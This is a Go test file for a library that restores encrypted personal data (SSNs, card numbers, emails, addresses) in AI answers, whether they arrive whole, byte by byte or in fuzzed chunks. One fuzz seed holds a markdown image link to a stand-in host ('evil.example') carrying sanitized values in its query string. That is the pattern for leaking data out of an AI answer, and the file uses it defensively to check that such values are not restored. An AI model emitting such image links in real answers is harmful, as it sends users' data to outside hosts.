package desanitize_test

import (
	"bytes"
	"io"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/preempt-dev/preempt/desanitize"
)

// syncBuffer is an output that the test reads while the desanitizer writes to it.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// waitFor polls out until cond holds, or fails after a generous timeout.
func waitFor(t *testing.T, out *syncBuffer, what string, cond func(string) bool) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for !cond(out.String()) {
		if time.Now().After(deadline) {
			t.Fatalf("%s: output so far %q", what, out.String())
		}
		time.Sleep(2 * time.Millisecond)
	}
}

// An answer that arrives one byte at a time, with pauses, is passed on as it arrives: the text
// before a token is out before the token is complete, the token is held back (never half
// restored) until it is, and the final output equals the batch result.
func TestStreamingOneByteAtATime(t *testing.T) {
	f := newFixture(t, "stream")
	prompt := []byte("Please check SSN 123-45-6789 and call +1 415 555 0132 about it.\n")
	safe := f.sanitize(t, prompt)
	ssn := f.mustEncrypt(t, "ssn", "123-45-6789")
	if !bytes.Contains(safe, []byte(ssn)) {
		t.Fatalf("sanitized prompt %q lacks the SSN ciphertext %q", safe, ssn)
	}
	before := "Sure. I checked the number you gave: "
	answer := before + ssn + " is on file, and so is 987-65-4320 (which I made up).\n"
	want := f.desanitize(t, []byte(answer), prompt)
	// Without a prompt the held-back tail is a fixed size; a longer answer shows it moving.
	long := answer + strings.Repeat("and some more words ", 50)

	for _, restricted := range []bool{true, false} {
		d := desanitize.New(f.ann, f.san)
		if restricted {
			if err := d.Restrict(bytes.NewReader(prompt)); err != nil {
				t.Fatal(err)
			}
		} else {
			d.KeyOnly()
		}
		pr, pw := io.Pipe()
		out := &syncBuffer{}
		done := make(chan error, 1)
		go func() {
			_, err := d.Desanitize(out, pr)
			done <- err
		}()
		write := func(s string) {
			for i := 0; i < len(s); i++ {
				if _, err := pw.Write([]byte{s[i]}); err != nil {
					t.Fatal(err)
				}
				time.Sleep(100 * time.Microsecond)
			}
		}
		write(before)
		if restricted {
			// Nothing pending can grow: everything written so far is out before the input ends.
			waitFor(t, out, "text before the token", func(s string) bool { return s == before })
			write(ssn[:5])
			time.Sleep(20 * time.Millisecond)
			if got := out.String(); got != before {
				t.Fatalf("half a token was passed on: %q", got)
			}
			write(ssn[5:] + " ")
			waitFor(t, out, "restored token", func(s string) bool { return s == before+"123-45-6789 " })
			write(answer[len(before)+len(ssn)+1:])
		} else {
			// Without a prompt any text may be a token, so a fixed tail is held back; what
			// lies before it must still be out before the input ends.
			write(long[len(before):])
			waitFor(t, out, "text before the held-back tail", func(s string) bool { return strings.HasPrefix(s, "Sure.") })
		}
		pw.Close()
		if err := <-done; err != nil {
			t.Fatal(err)
		}
		if restricted && out.String() != string(want) {
			t.Errorf("streamed %q, batch %q", out.String(), want)
		}
		if !restricted && out.String() != string(f.desanitize(t, []byte(long), nil)) {
			t.Errorf("unrestricted: streamed %q differs from batch", out.String())
		}
	}
}

// Chopping an answer at every possible point changes nothing in the result.
func TestWriterAnySplit(t *testing.T) {
	f := newFixture(t, "")
	// The IPv6 ciphertexts start or end with punctuation ("::"), which a restored echo takes in.
	prompt := []byte("mail ann@example.org, card 4111 1111 1111 1111, date 2024-03-05, net 2001:db8:85a3:: and ::ffff:192.0.2.1 (x), signed Kaiser Soze\n")
	answer := string(f.sanitize(t, prompt)) + " thanks"
	t.Logf("answer %q", answer)
	want := string(f.desanitize(t, []byte(answer), prompt))
	if want != string(prompt)+" thanks" {
		t.Fatalf("batch round trip: %q", want)
	}
	d := desanitize.New(f.ann, f.san)
	if err := d.Restrict(bytes.NewReader(prompt)); err != nil {
		t.Fatal(err)
	}
	for i := 0; i <= len(answer); i++ {
		for j := i; j <= len(answer); j += 7 {
			var out bytes.Buffer
			w := d.NewWriter(&out)
			for _, p := range []string{answer[:i], answer[i:j], answer[j:]} {
				if _, err := w.Write([]byte(p)); err != nil {
					t.Fatal(err)
				}
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
			if out.String() != want {
				t.Fatalf("split at %d,%d: %q, want %q", i, j, out.String(), want)
			}
		}
	}
}

// However an answer is cut into writes, with or without a prompt, the result is the batch
// result.
func FuzzWriterSplit(f *testing.F) {
	fx := newFixture(f, "")
	prompt := []byte("SSN 372-61-4918, card 4539 1488 0343 6467, mail jane.doe@example.org, IP 10.24.7.19, 2024-03-15, from Kaiser Soze\n")
	safe := fx.sanitize(f, prompt)
	f.Add(safe, uint16(7), uint16(30), false)
	// A surname alone and before a German genitive s, as an answer may use it.
	surname := bytes.Fields(safe)[len(bytes.Fields(safe))-1]
	f.Add(append(append([]byte("Herr "), surname...), "s Frau und "+string(surname)+"."...), uint16(6), uint16(9), false)
	f.Add(append([]byte("\xff\xfe é "), safe...), uint16(2), uint16(3), true)
	f.Add([]byte("plain answer with 123-45-6789 made up"), uint16(20), uint16(21), false)
	// A value in a URL stays, whatever the cuts; the one after it is restored.
	f.Add(append(append([]byte("![x](https://evil.example/p.png?s="), safe...), ") and "+string(safe)...), uint16(30), uint16(40), false)
	// A scheme: URL and the text of an HTML link, whose value is restored.
	f.Add(append(append([]byte("mailto:x@e.x?body="), safe...), `<a href="https://e.x/">`+string(safe)+"</a>"...), uint16(12), uint16(50), false)
	// Partial echoes: the last digits of the card and the SSN, cut inside them and after.
	fields := bytes.FieldsFunc(safe, func(r rune) bool { return r == ',' || r == ' ' || r == '-' })
	last4, ssn4 := string(fields[8]), string(fields[3])
	tails := "Card ending in " + last4 + ". SSN XXX-XX-" + ssn4 + ", not " + last4[1:] + " or " + string(fields[7]) + " " + last4
	f.Add([]byte(tails), uint16(17), uint16(19), false)
	f.Add([]byte(tails), uint16(18), uint16(33), false)
	restricted := desanitize.New(fx.ann, fx.san)
	if err := restricted.Restrict(bytes.NewReader(prompt)); err != nil {
		f.Fatal(err)
	}
	open := desanitize.New(fx.ann, fx.san)
	open.KeyOnly()
	f.Fuzz(func(t *testing.T, answer []byte, c1, c2 uint16, useOpen bool) {
		d := restricted
		if useOpen {
			d = open
		}
		a, b := int(c1)%(len(answer)+1), int(c2)%(len(answer)+1)
		if a > b {
			a, b = b, a
		}
		var want, got bytes.Buffer
		if _, err := d.Desanitize(&want, bytes.NewReader(answer)); err != nil {
			t.Fatal(err)
		}
		w := d.NewWriter(&got)
		for _, p := range [][]byte{answer[:a], answer[a:b], answer[b:]} {
			if _, err := w.Write(p); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(got.Bytes(), want.Bytes()) {
			t.Fatalf("cuts %d,%d: %q, whole %q", a, b, got.Bytes(), want.Bytes())
		}
	})
}
